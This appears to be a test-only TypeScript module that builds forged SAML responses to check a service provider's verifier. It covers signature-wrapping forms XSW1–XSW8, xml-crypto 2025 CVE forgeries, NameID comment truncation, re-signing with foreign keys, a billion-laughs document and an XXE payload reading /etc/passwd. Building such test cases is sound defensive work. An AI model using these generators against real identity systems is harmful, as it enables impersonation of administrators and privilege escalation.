/**
 * Attack forms made from a genuinely signed SAML response (the XML a real IdP signed): each
 * generator takes that XML and returns the document an attacker would send. Test-only.
 *
 * The signature-wrapping forms follow Somorovsky et al., "On Breaking SAML: Be Whoever You Want
 * to Be" (USENIX Security 2012), XSW1–XSW8, as SAML Raider (CompassSecurity/SAMLRaider,
 * XSWHelpers.java) builds them; read, not copied. In every form the evil assertion (or response)
 * gets an ID of its own, so that a verifier resolving the signature's reference by ID finds
 * exactly one element, the untouched original, and its signature still verifies: what is wrapped
 * is what a naive consumer reads instead.
 *
 * The 2025 xml-crypto forms: CVE-2025-29774 (a second SignedInfo whose Reference carries the
 * evil assertion's digest, beside the original SignedInfo the SignatureValue covers) and
 * CVE-2025-29775 (the evil digest in a comment inside DigestValue, which canonicalization drops
 * and a reader of the first child node sees). The 2018 comment truncation form (Duo Labs,
 * CVE-2017-11427 and kin): a comment inside a signed NameID, which the signature ignores.
 */
import { createHash } from 'node:crypto';
import { DOMParser, XMLSerializer } from '@xmldom/xmldom';
import { ExclusiveCanonicalization } from 'xml-crypto';
import { signAssertion, type SignOptions } from './saml-sign.js';

export const NS = {
  saml: 'urn:oasis:names:tc:SAML:2.0:assertion',
  samlp: 'urn:oasis:names:tc:SAML:2.0:protocol',
  ds: 'http://www.w3.org/2000/09/xmldsig#',
} as const;

export const ROLE_ATTRIBUTE = 'https://aws.amazon.com/SAML/Attributes/Role';
export const EVIL_ASSERTION_ID = '_evil_assertion';
export const EVIL_RESPONSE_ID = '_evil_response';

/** What the attacker wants the consumer to read. */
export interface Forgery {
  /** The NameID of the evil assertion (default `admin`). */
  readonly nameId?: string;
  /** The Role attribute values of the evil assertion (default: unchanged). */
  readonly roles?: readonly string[];
}

/* DOM plumbing ---------------------------------------------------------------------------------- */

export function parse(xml: string): Document {
  const doc = new DOMParser({ errorHandler: { warning: () => undefined, error: () => undefined, fatalError: (m: string) => { throw new Error(m); } } }).parseFromString(xml, 'text/xml');
  if (!doc.documentElement) throw new Error('no document element');
  return doc;
}

export function serialize(node: Node): string {
  return new XMLSerializer().serializeToString(node);
}

function isElement(node: Node | null): node is Element {
  return node !== null && node.nodeType === 1;
}

/** The element children of `parent` named {ns}local (`ns` null: in no namespace). */
export function childrenOf(parent: Element, ns: string | null, local: string): Element[] {
  const out: Element[] = [];
  for (let n = parent.firstChild; n; n = n.nextSibling) if (isElement(n) && (n.namespaceURI || null) === ns && n.localName === local) out.push(n);
  return out;
}

export function all(root: Document | Element, ns: string, local: string): Element[] {
  const list = root.getElementsByTagNameNS(ns, local);
  const out: Element[] = [];
  for (let i = 0; i < list.length; i++) {
    const el = list.item(i);
    if (el) out.push(el);
  }
  return out;
}

function one(root: Document | Element, ns: string, local: string, what: string): Element {
  const [el] = all(root, ns, local);
  if (!el) throw new Error(`no ${what} in the document`);
  return el;
}

function response(doc: Document): Element {
  const root = doc.documentElement;
  if (!root || root.namespaceURI !== NS.samlp || root.localName !== 'Response') throw new Error('not a samlp:Response');
  return root;
}

/** The Response's own child Assertion (the one the IdP put there). */
function assertionOf(doc: Document): Element {
  const [a] = childrenOf(response(doc), NS.saml, 'Assertion');
  if (!a) throw new Error('the Response has no Assertion child');
  return a;
}

function signatureChild(el: Element): Element | undefined {
  return childrenOf(el, NS.ds, 'Signature')[0];
}

function insertAfter(node: Node, ref: Node): void {
  ref.parentNode?.insertBefore(node, ref.nextSibling);
}

/** A deep copy of `el` with its own (enveloped) Signature removed. */
function unsignedCopy(el: Element): Element {
  const copy = el.cloneNode(true) as Element;
  const sig = signatureChild(copy);
  if (sig) copy.removeChild(sig);
  return copy;
}

/** Rewrite an assertion (in place) to say what the attacker wants. */
function forge(assertion: Element, forgery: Forgery, id: string | undefined): Element {
  if (id !== undefined) assertion.setAttribute('ID', id);
  const nameId = all(assertion, NS.saml, 'NameID')[0];
  if (nameId) nameId.textContent = forgery.nameId ?? 'admin';
  if (forgery.roles) {
    const role = all(assertion, NS.saml, 'Attribute').find((a) => a.getAttribute('Name') === ROLE_ATTRIBUTE);
    if (!role) throw new Error('no Role attribute to forge');
    for (const v of childrenOf(role, NS.saml, 'AttributeValue')) role.removeChild(v);
    const doc = assertion.ownerDocument;
    for (const value of forgery.roles) {
      const v = doc.createElementNS(NS.saml, 'saml:AttributeValue');
      v.textContent = value;
      role.appendChild(v);
    }
  }
  return assertion;
}

/** An unsigned evil assertion made from the genuine one (its own ID, forged content). */
function evilAssertion(doc: Document, forgery: Forgery): Element {
  return forge(unsignedCopy(assertionOf(doc)), forgery, EVIL_ASSERTION_ID);
}

/** The `samlp:Extensions` of the Response, created at its schema place (after Issuer and Signature) if missing. */
function extensions(doc: Document): Element {
  const r = response(doc);
  const existing = childrenOf(r, NS.samlp, 'Extensions')[0];
  if (existing) return existing;
  const ext = doc.createElementNS(NS.samlp, 'samlp:Extensions');
  const status = childrenOf(r, NS.samlp, 'Status')[0];
  r.insertBefore(ext, status ?? null);
  return ext;
}

/** base64(SHA-256(exclusive c14n of `el` without its enveloped Signature)): what a Reference to it carries. */
export function digestOf(el: Element): string {
  const canon = new ExclusiveCanonicalization().process(unsignedCopy(el), {});
  return createHash('sha256').update(canon).digest('base64');
}

/* XML Signature Wrapping (Somorovsky et al. 2012) ------------------------------------------------ */

function responseSignature(doc: Document): Element {
  const sig = signatureChild(response(doc));
  if (!sig) throw new Error('XSW1/XSW2 wrap a signed Response: sign the Response (signResponse)');
  return sig;
}

/**
 * XSW1 (Response signed): the root Response becomes the evil one (its own ID, the evil assertion
 * in place of the genuine), and the original Response, unsigned, is put inside its Signature.
 */
export function xsw1(xml: string, forgery: Forgery = {}): string {
  const doc = parse(xml);
  const root = response(doc);
  const original = unsignedCopy(root);
  const genuine = assertionOf(doc);
  root.replaceChild(evilAssertion(doc, forgery), genuine);
  root.setAttribute('ID', EVIL_RESPONSE_ID);
  responseSignature(doc).appendChild(original);
  return serialize(doc);
}

/** XSW2 (Response signed): as XSW1, with the original Response a sibling just before the Signature (detached). */
export function xsw2(xml: string, forgery: Forgery = {}): string {
  const doc = parse(xml);
  const root = response(doc);
  const original = unsignedCopy(root);
  const genuine = assertionOf(doc);
  root.replaceChild(evilAssertion(doc, forgery), genuine);
  root.setAttribute('ID', EVIL_RESPONSE_ID);
  root.insertBefore(original, responseSignature(doc));
  return serialize(doc);
}

/** XSW3 (Assertion signed): an unsigned evil assertion inserted before the signed one, as the Response's first assertion. */
export function xsw3(xml: string, forgery: Forgery = {}): string {
  const doc = parse(xml);
  const genuine = assertionOf(doc);
  response(doc).insertBefore(evilAssertion(doc, forgery), genuine);
  return serialize(doc);
}

/** XSW4 (Assertion signed): the evil assertion takes the genuine one's place, and the signed original is its child. */
export function xsw4(xml: string, forgery: Forgery = {}): string {
  const doc = parse(xml);
  const genuine = assertionOf(doc);
  const evil = evilAssertion(doc, forgery);
  response(doc).replaceChild(evil, genuine);
  evil.appendChild(genuine);
  return serialize(doc);
}

/**
 * XSW5 (Assertion signed): the signed assertion itself is rewritten (its own ID, forged content,
 * keeping the original Signature), and an unsigned copy of the original is appended to the Response.
 */
export function xsw5(xml: string, forgery: Forgery = {}): string {
  const doc = parse(xml);
  const genuine = assertionOf(doc);
  const original = unsignedCopy(genuine);
  forge(genuine, forgery, EVIL_ASSERTION_ID);
  response(doc).appendChild(original);
  return serialize(doc);
}

/** XSW6 (Assertion signed): as XSW5, with the unsigned original inside the (evil assertion's) Signature. */
export function xsw6(xml: string, forgery: Forgery = {}): string {
  const doc = parse(xml);
  const genuine = assertionOf(doc);
  const original = unsignedCopy(genuine);
  const sig = signatureChild(genuine);
  if (!sig) throw new Error('the assertion is not signed');
  forge(genuine, forgery, EVIL_ASSERTION_ID);
  sig.appendChild(original);
  return serialize(doc);
}

/** XSW7 (Assertion signed): an `Extensions` element (no namespace, as SAML Raider makes it) holding the evil assertion, before the signed one. */
export function xsw7(xml: string, forgery: Forgery = {}): string {
  const doc = parse(xml);
  const genuine = assertionOf(doc);
  const ext = doc.createElementNS(null, 'Extensions');
  ext.appendChild(evilAssertion(doc, forgery));
  response(doc).insertBefore(ext, genuine);
  return serialize(doc);
}

/** XSW8 (Assertion signed): as XSW6, with the unsigned original inside a `ds:Object` in the Signature. */
export function xsw8(xml: string, forgery: Forgery = {}): string {
  const doc = parse(xml);
  const genuine = assertionOf(doc);
  const original = unsignedCopy(genuine);
  const sig = signatureChild(genuine);
  if (!sig) throw new Error('the assertion is not signed');
  forge(genuine, forgery, EVIL_ASSERTION_ID);
  const object = doc.createElementNS(NS.ds, 'Object');
  object.appendChild(original);
  sig.appendChild(object);
  return serialize(doc);
}

export const XSW = { xsw1, xsw2, xsw3, xsw4, xsw5, xsw6, xsw7, xsw8 } as const;

/* Other placements ------------------------------------------------------------------------------ */

/** The signed assertion hidden in `samlp:Extensions`, an unsigned evil one where the assertion belongs (OneUptime#2949). */
export function hiddenInExtensions(xml: string, forgery: Forgery = {}): string {
  const doc = parse(xml);
  const genuine = assertionOf(doc);
  response(doc).replaceChild(evilAssertion(doc, forgery), genuine);
  extensions(doc).appendChild(genuine);
  return serialize(doc);
}

/** An unsigned evil assertion after the signed one. */
export function unsignedBeside(xml: string, forgery: Forgery = {}): string {
  const doc = parse(xml);
  insertAfter(evilAssertion(doc, forgery), assertionOf(doc));
  return serialize(doc);
}

/** Two genuinely signed assertions in one Response: `xml`'s, then `other`'s (another sign-in's response). */
export function secondAssertion(xml: string, other: string): string {
  const doc = parse(xml);
  const second = doc.importNode(assertionOf(parse(other)), true);
  insertAfter(second, assertionOf(doc));
  return serialize(doc);
}

/* xml-crypto 2025 -------------------------------------------------------------------------------- */

function assertionReference(signature: Element): { signedInfo: Element; digestValue: Element } {
  const [signedInfo] = childrenOf(signature, NS.ds, 'SignedInfo');
  const digestValue = signedInfo && all(signedInfo, NS.ds, 'DigestValue')[0];
  if (!signedInfo || !digestValue) throw new Error('no SignedInfo/DigestValue');
  return { signedInfo, digestValue };
}

/**
 * CVE-2025-29774: the signed assertion rewritten in place (same ID), and a second SignedInfo after
 * the original whose Reference carries the rewritten assertion's digest. The SignatureValue still
 * matches the first SignedInfo; a verifier that checks the value over one and the digests of the
 * other is fooled.
 */
export function multipleSignedInfo(xml: string, forgery: Forgery = {}): string {
  const doc = parse(xml);
  const genuine = assertionOf(doc);
  const sig = signatureChild(genuine);
  if (!sig) throw new Error('the assertion is not signed');
  forge(genuine, forgery, undefined);
  const { signedInfo } = assertionReference(sig);
  const second = signedInfo.cloneNode(true) as Element;
  const secondDigest = all(second, NS.ds, 'DigestValue')[0];
  if (!secondDigest) throw new Error('no DigestValue');
  secondDigest.textContent = digestOf(genuine);
  insertAfter(second, signedInfo);
  return serialize(doc);
}

/**
 * CVE-2025-29775: the signed assertion rewritten in place (same ID), and its digest put in a
 * comment ahead of the original DigestValue text: canonicalization drops the comment, so the
 * SignatureValue still matches; a reader of DigestValue's first child sees the evil digest.
 */
export function commentInDigest(xml: string, forgery: Forgery = {}): string {
  const doc = parse(xml);
  const genuine = assertionOf(doc);
  const sig = signatureChild(genuine);
  if (!sig) throw new Error('the assertion is not signed');
  forge(genuine, forgery, undefined);
  const { digestValue } = assertionReference(sig);
  digestValue.insertBefore(doc.createComment(digestOf(genuine)), digestValue.firstChild);
  return serialize(doc);
}

/**
 * The 2018 comment truncation (Duo Labs): a comment inside the signed NameID (`admin<!---->.evil`
 * from a genuine `admin.evil`), which the signature ignores (c14n without comments); a reader of
 * the first text node sees `admin`. `at` is where the NameID text is split.
 */
export function commentInNameId(xml: string, at: string): string {
  const doc = parse(xml);
  const nameId = one(assertionOf(doc), NS.saml, 'NameID', 'NameID');
  const value = nameId.textContent ?? '';
  if (!value.startsWith(at) || value === at) throw new Error(`the NameID ${value} does not start with ${at}`);
  while (nameId.firstChild) nameId.removeChild(nameId.firstChild);
  nameId.appendChild(doc.createTextNode(at));
  nameId.appendChild(doc.createComment(''));
  nameId.appendChild(doc.createTextNode(value.slice(at.length)));
  return serialize(doc);
}

/* Keys ------------------------------------------------------------------------------------------ */

/**
 * The response with every Signature removed, the assertion forged (optionally) and signed again by
 * another key: `{ key: 'stranger' }` is a signature by a certificate the provider does not list;
 * `{ key: 'stranger', keyInfo: 'stranger' }` also carries that certificate in KeyInfo (trusting
 * KeyInfo alone is CVE-2024-32962); `{ key: 'stranger', keyInfo: 'idp-a' }` names the provider's.
 */
export function resigned(xml: string, options: SignOptions, forgery?: Forgery): string {
  const doc = parse(xml);
  for (const sig of all(doc, NS.ds, 'Signature')) sig.parentNode?.removeChild(sig);
  if (forgery) forge(assertionOf(doc), forgery, undefined);
  return signAssertion(serialize(doc), options);
}

/* Parser attacks -------------------------------------------------------------------------------- */

function withStatusMessage(xml: string, doctype: string, text: string): string {
  const doc = parse(xml);
  const status = one(response(doc), NS.samlp, 'Status', 'Status');
  const message = doc.createElementNS(NS.samlp, 'samlp:StatusMessage');
  message.appendChild(doc.createTextNode('@ENTITY@'));
  status.appendChild(message);
  const body = serialize(doc).replace('@ENTITY@', text).replace(/^<\?xml[^>]*\?>/, '');
  return `<?xml version="1.0" encoding="UTF-8"?>\n${doctype}\n${body}`;
}

/** "Billion laughs": nested entities referenced from an unsigned part (a StatusMessage), so the signature still verifies. */
export function billionLaughs(xml: string): string {
  const entities = ['<!ENTITY lol0 "lol">'];
  for (let i = 1; i <= 9; i++) entities.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`);
  return withStatusMessage(xml, `<!DOCTYPE samlp:Response [\n${entities.join('\n')}\n]>`, '&lol9;');
}

/** An external entity (XXE) naming a local file, referenced from a StatusMessage. */
export function externalEntity(xml: string, systemId = 'file:///etc/passwd'): string {
  return withStatusMessage(xml, `<!DOCTYPE samlp:Response [\n<!ENTITY xxe SYSTEM "${systemId}">\n]>`, '&xxe;');
}

/** A DOCTYPE alone (SAML forbids any). */
export function withDoctype(xml: string): string {
  return `<!DOCTYPE samlp:Response>${xml.replace(/^<\?xml[^>]*\?>/, '')}`;
}

/**
 * A document whose base64 is longer than `base64Length` (default: AWS's cap plus one): padded
 * with an unsigned Extensions element, so the signature still verifies.
 */
export function oversized(xml: string, base64Length = 100_001): string {
  const doc = parse(xml);
  const pad = doc.createElementNS(NS.samlp, 'samlp:Extensions');
  const r = response(doc);
  r.insertBefore(pad, childrenOf(r, NS.samlp, 'Status')[0] ?? null);
  const base = serialize(doc);
  const needed = Math.ceil((base64Length * 3) / 4) - Buffer.byteLength(base) + 16;
  pad.appendChild(doc.createComment('x'.repeat(Math.max(needed, 0))));
  return serialize(doc);
}

export const b64 = (xml: string): string => Buffer.from(xml, 'utf8').toString('base64');
export const unb64 = (base64: string): string => Buffer.from(base64, 'base64').toString('utf8');
